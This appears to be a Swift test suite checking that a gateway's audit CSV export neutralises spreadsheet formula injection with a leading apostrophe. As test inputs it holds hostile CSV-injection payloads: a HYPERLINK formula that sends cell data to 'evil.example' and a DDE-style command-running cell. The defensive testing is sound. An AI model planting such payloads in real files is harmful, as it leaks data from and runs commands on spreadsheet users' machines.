import Core
import Foundation
import HummingbirdTesting
import SQLiteStore
import Testing

@testable import LocalGateway

/// Issue 19 finding 8: a question that a spreadsheet would run as a formula leaves
/// `GET /v1/audit?format=csv` (and `bedside audit --format csv`) as text: OWASP's rule, a
/// leading apostrophe on cells that begin with `=`, `+`, `-`, `@`, a tab or a carriage return.
@Suite struct AuditCSVInjectionTests {
    @Test func formulaCellsGetALeadingApostrophe() {
        #expect(AuditExport.csvField("=HYPERLINK(\"http://x\",\"y\")") == #""'=HYPERLINK(""http://x"",""y"")""#)
        #expect(AuditExport.csvField("+1+1") == "'+1+1")
        #expect(AuditExport.csvField("-2") == "'-2")
        #expect(AuditExport.csvField("@SUM(A1)") == "'@SUM(A1)")
        #expect(AuditExport.csvField("\tcmd") == "'\tcmd")
        #expect(AuditExport.csvField("\rcmd") == "\"'\rcmd\"")
        // Anything else is as before: plain, or quoted per RFC 4180.
        #expect(AuditExport.csvField("a = b") == "a = b")
        #expect(AuditExport.csvField("12") == "12")
        #expect(AuditExport.csvField("x, y") == "\"x, y\"")
    }

    @Test func theAuditorsCSVExportCarriesNoLiveFormula() async throws {
        let test = try await TestGateway.make(inference: ScriptedInference())
        defer { test.cleanup() }
        let alice = try await test.token("alice")
        let auditor = try await test.gateway.issuer.mint(subject: "compliance", ttl: 3600, roles: ["auditor"])
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"sepsis\")", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3"]
        try await test.app.test(.router) { client in
            for q in hostile {
                let r = try await client.execute(uri: "/v1/query", method: .post, headers: .bearer(alice), body: queryBody(q))
                #expect(r.status == .ok, "\(q): \(r.text)")
            }
            let csv = try await client.execute(uri: "/v1/audit?format=csv", method: .get, headers: .bearer(auditor)).text
            let cells = csv.split(separator: "\r\n").dropFirst().map { parseCSVLine(String($0)) }
            #expect(cells.count == hostile.count)
            let questions = cells.map { $0[4] }
            #expect(questions == hostile.map { "'" + $0 }, "\(csv)")
            for line in cells { for cell in line { #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first), "live cell \(cell)") } }
            // JSON lines stay exact (the hashes cover the stored text).
            let jsonl = try await client.execute(uri: "/v1/audit?format=jsonl", method: .get, headers: .bearer(auditor)).text
            #expect(jsonl.contains(#""question":"=HYPERLINK("#))
        }
    }

    /// RFC 4180 cells of one line (quoted cells may hold commas and doubled quotes).
    func parseCSVLine(_ line: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var chars = Array(line)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" {
                        cell.append("\"")
                        chars.removeFirst()
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
        }
        cells.append(cell)
        return cells
    }
}
